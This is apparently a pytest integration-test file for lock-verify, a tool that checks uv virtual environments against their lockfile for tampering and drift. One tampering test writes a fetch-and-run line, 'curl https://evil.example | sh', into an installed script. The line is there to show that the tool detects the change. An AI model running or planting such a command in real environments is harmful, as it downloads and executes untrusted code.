"""Integration tests of `lock-verify --venv` against environments real uv made.

Each test writes a small project (built with uv's own build backend, so the
project itself is installed editable), builds its wheels with
tests/fixtures/wheelmaker.py into a local find-links folder, and has uv 0.12.5
lock and sync it offline (`--offline --no-index --find-links`, a private cache,
no user config). Then the environment is changed the ways drift and tampering
change environments -- an installed file edited or deleted, a script rewritten,
another version installed, a METADATA version edited, a package added or
removed, a `.pth` dropped in -- and lock-verify must name each change.

Nothing here touches the network. uv 0.12.5 is looked up (the `uv` Python
package, then PATH) but never installed; without it the module is skipped.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
BUILD = Path(os.environ.get("LOCKKIT_BUILD_DIR") or ROOT / "build").resolve()
BINARY = BUILD / "tools" / "lock-verify" / "lock-verify"
sys.path.insert(0, str(ROOT / "tests" / "fixtures"))
import uv_oracle  # noqa: E402
import wheelmaker  # noqa: E402


UV, _UV_SKIP = uv_oracle.find_uv()
pytestmark = [
    pytest.mark.skipif(UV is None, reason=_UV_SKIP),
    pytest.mark.skipif(not BINARY.exists(), reason=f"{BINARY} not built (set LOCKKIT_BUILD_DIR)"),
]

# alpha needs beta; beta ships a script (installed as ../../../bin/beta-tool);
# gamma is the dev group; delta is the extra `fast`; winonly is Windows-only;
# stranger is in the index but never locked.
INDEX = [
    {"name": "alpha", "version": "1.0", "requires": ["beta>=1,<2"]},
    {"name": "beta", "version": "1.0"},
    {"name": "beta", "version": "2.0"},
    {"name": "gamma", "version": "0.5"},
    {"name": "delta", "version": "3.1"},
    {"name": "winonly", "version": "1.0"},
    {"name": "stranger", "version": "1.0"},
]

PYPROJECT = """
[project]
name = "proj"
version = "0.1.0"
requires-python = ">=3.9"
dependencies = ["alpha", "winonly; sys_platform == 'win32'"]

[project.optional-dependencies]
fast = ["delta"]

[dependency-groups]
dev = ["gamma"]

[build-system]
requires = ["uv_build>=0.8,<0.13"]
build-backend = "uv_build"
"""


@pytest.fixture(scope="session")
def index_dir(tmp_path_factory) -> Path:
    d = tmp_path_factory.mktemp("find-links")
    for spec in INDEX:
        extra = {}
        if spec["name"] == "beta":
            extra = {f"beta-{spec['version']}.data/scripts/beta-tool": b"#!/bin/sh\necho beta\n"}
        wheelmaker.make_wheel(d, spec["name"], spec["version"], requires_dist=spec.get("requires", ()),
                              extra_files=extra)
    return d


@pytest.fixture(scope="session")
def uv_env(tmp_path_factory) -> dict:
    """An environment that keeps uv off the network and away from user config."""
    # The tests edit installed files in place; with uv's default clone/hardlink
    # modes that could edit the shared cache and leak into the next test's sync.
    return uv_oracle.sandbox_env(tmp_path_factory.mktemp("uv-home"), UV_LINK_MODE="copy")

class Project:
    def __init__(self, root: Path, index_dir: Path, uv_env: dict):
        self.root = root
        self.index_dir = index_dir
        self.env = uv_env
        self.venv = root / ".venv"
        (self.site,) = self.venv.glob("lib/python3.*/site-packages") if self.venv.exists() else (None,)

    def uv(self, *args: str, check: bool = True) -> subprocess.CompletedProcess:
        cmd = [UV, *args]
        proc = subprocess.run(cmd, capture_output=True, text=True, env=self.env, timeout=300, cwd=self.root)
        if check and proc.returncode != 0:
            pytest.fail(f"{' '.join(cmd)} failed (exit {proc.returncode}):\n{proc.stderr}")
        return proc

    def sync(self, *args: str) -> None:
        self.uv("sync", "--offline", "--no-index", "--find-links", str(self.index_dir), "--python", sys.executable,
                *args)
        (self.site,) = self.venv.glob("lib/python3.*/site-packages")

    def pip(self, *args: str) -> None:
        self.uv("pip", args[0], "--python", str(self.venv / "bin" / "python"), *args[1:])

    def verify(self, *args: str) -> subprocess.CompletedProcess:
        return subprocess.run([str(BINARY), "uv.lock", "--venv", ".venv", *map(str, args)],
                              capture_output=True, text=True, cwd=self.root, timeout=120)

    def findings(self, *args: str) -> list[dict]:
        r = self.verify("--format", "json", *args)
        assert r.returncode in (0, 1), r.stderr
        return json.loads(r.stdout)["findings"]


@pytest.fixture
def project(tmp_path, index_dir, uv_env) -> Project:
    root = tmp_path / "proj"
    (root / "src" / "proj").mkdir(parents=True)
    (root / "pyproject.toml").write_text(textwrap.dedent(PYPROJECT).lstrip())
    (root / "src" / "proj" / "__init__.py").write_text("VALUE = 1\n")
    p = Project(root, index_dir, uv_env)
    p.uv("lock", "--offline", "--no-index", "--find-links", str(index_dir), "--python", sys.executable)
    p.sync()
    return p


def rules(findings: list[dict]) -> list[tuple[str, str | None]]:
    return [(f["rule"], f["package"]["name"] if f["package"] else None) for f in findings]


# ---------------------------------------------------------------------------


def test_synced_venv_passes(project):
    r = project.verify()
    assert r.returncode == 0, r.stdout + r.stderr
    assert r.stdout == ""
    assert re.search(r"\.venv: 4 installed distributions, \d+ files hashed, CPython 3\.\d+\.\d+, linux", r.stderr), r.stderr
    doc = json.loads(project.verify("--format", "json").stdout)
    assert doc["findings"] == []
    # alpha, beta, gamma (dev group) and the editable project; not winonly (Windows), not delta (extra)
    assert doc["venv"]["expected"] == 4
    assert doc["venv"]["distributions_checked"] == 4
    assert doc["venv"]["files_hashed"] > 20
    assert doc["venv"]["path"] == ".venv"


def test_edited_file_is_a_record_mismatch(project):
    target = project.site / "alpha" / "__init__.py"
    target.write_text(target.read_text() + "import os  # injected\n")
    r = project.verify()
    assert r.returncode == 1
    assert "error[venv-record-mismatch] alpha==1.0" in r.stdout
    assert "site-packages/alpha/__init__.py" in r.stdout
    (f,) = project.findings()
    assert f["rule"] == "venv-record-mismatch"
    assert re.search(r"has hash sha256=\S+, but its RECORD expects sha256=\S+", f["message"])


def test_rewritten_script_outside_site_packages_is_caught(project):
    script = project.venv / "bin" / "beta-tool"
    assert script.exists(), "uv should have installed beta's script"
    script.write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
    (f,) = project.findings()
    assert (f["rule"], f["package"]["name"]) == ("venv-record-mismatch", "beta")
    assert ".venv/bin/beta-tool" in f["message"]


def test_deleted_file_is_missing(project):
    (project.site / "gamma" / "__init__.py").unlink()
    r = project.verify()
    assert r.returncode == 1
    assert "error[venv-record-missing-file] gamma==0.5" in r.stdout
    assert "gamma/__init__.py" in r.stdout


def test_other_version_installed_is_a_mismatch(project):
    project.pip("install", "--offline", "--no-index", "--find-links", str(project.index_dir), "beta==2.0")
    r = project.verify()
    assert r.returncode == 1
    assert "error[venv-version-mismatch] beta==1.0: beta is installed as 2.0" in r.stdout
    assert rules(project.findings()) == [("venv-version-mismatch", "beta")]


def test_edited_metadata_version_is_a_mismatch_and_a_record_mismatch(project):
    metadata = project.site / "alpha-1.0.dist-info" / "METADATA"
    metadata.write_text(metadata.read_text().replace("Version: 1.0", "Version: 1.5"))
    found = rules(project.findings())
    assert ("venv-version-mismatch", "alpha") in found
    assert ("venv-record-mismatch", "alpha") in found


def test_extra_package_is_an_extraneous_warning(project):
    project.pip("install", "--offline", "--no-index", "--find-links", str(project.index_dir), "stranger")
    r = project.verify()
    assert r.returncode == 0, r.stdout  # a warning
    assert "warning[venv-extraneous] stranger==1.0" in r.stdout
    assert "the lock does not have it" in r.stdout
    assert project.verify("--strict").returncode == 1
    assert project.verify("--error", "venv-extraneous").returncode == 1


def test_hand_made_dist_info_is_extraneous(project):
    d = project.site / "handmade-0.1.dist-info"
    d.mkdir()
    (d / "METADATA").write_text("Metadata-Version: 2.1\nName: handmade\nVersion: 0.1\n\n")
    (d / "RECORD").write_text("handmade-0.1.dist-info/METADATA,,\nhandmade-0.1.dist-info/RECORD,,\n")
    assert rules(project.findings()) == [("venv-extraneous", "handmade")]


def test_removed_package_is_missing(project):
    project.pip("uninstall", "gamma")
    r = project.verify()
    assert r.returncode == 1
    assert "error[venv-missing] gamma==0.5" in r.stdout
    assert project.verify("--warn", "venv-missing").returncode == 0


def test_dropped_in_pth_is_an_unrecorded_file(project):
    (project.site / "zz_injected.pth").write_text("import os; os.system('true')\n")
    (f,) = project.findings()
    assert f["rule"] == "venv-unrecorded-file"
    assert f["severity"] == "warning"
    assert "zz_injected.pth" in f["message"]


def test_groups_and_extras_follow_how_the_venv_was_synced(project):
    project.sync("--no-dev", "--extra", "fast")
    # gamma (dev) was removed, delta (extra fast) installed
    assert rules(project.findings()) == [("venv-missing", "gamma"), ("venv-extraneous", "delta")]
    assert project.verify("--venv-no-default-groups", "--venv-extra", "fast").returncode == 0
    assert project.findings("--venv-no-default-groups", "--venv-all-extras") == []
    r = project.verify("--venv-group", "nope")
    assert r.returncode == 2
    assert "dependency group `nope`" in r.stderr


def test_editable_project_installed_as_copy_is_a_source_warning(project):
    project.sync("--no-editable")
    (f,) = project.findings()
    assert (f["rule"], f["severity"], f["package"]["name"]) == ("venv-source-mismatch", "warning", "proj")


def test_not_a_venv_exits_2(project):
    r = subprocess.run([str(BINARY), "uv.lock", "--venv", "."], capture_output=True, text=True, cwd=project.root)
    assert r.returncode == 2
    assert "not a virtual environment" in r.stderr
    assert "did you mean ./.venv" in r.stderr
    r = subprocess.run([str(BINARY), "uv.lock", "--venv-extra", "fast"], capture_output=True, text=True,
                       cwd=project.root)
    assert r.returncode == 2
    assert "only apply with --venv" in r.stderr


def test_sarif_lists_the_venv_rules(project):
    (project.site / "gamma" / "__init__.py").unlink()
    doc = json.loads(project.verify("--format", "sarif").stdout)
    run = doc["runs"][0]
    assert [r["id"] for r in run["tool"]["driver"]["rules"]] == ["venv-record-missing-file"]
    assert run["results"][0]["locations"][0]["physicalLocation"]["region"]["startLine"] > 0
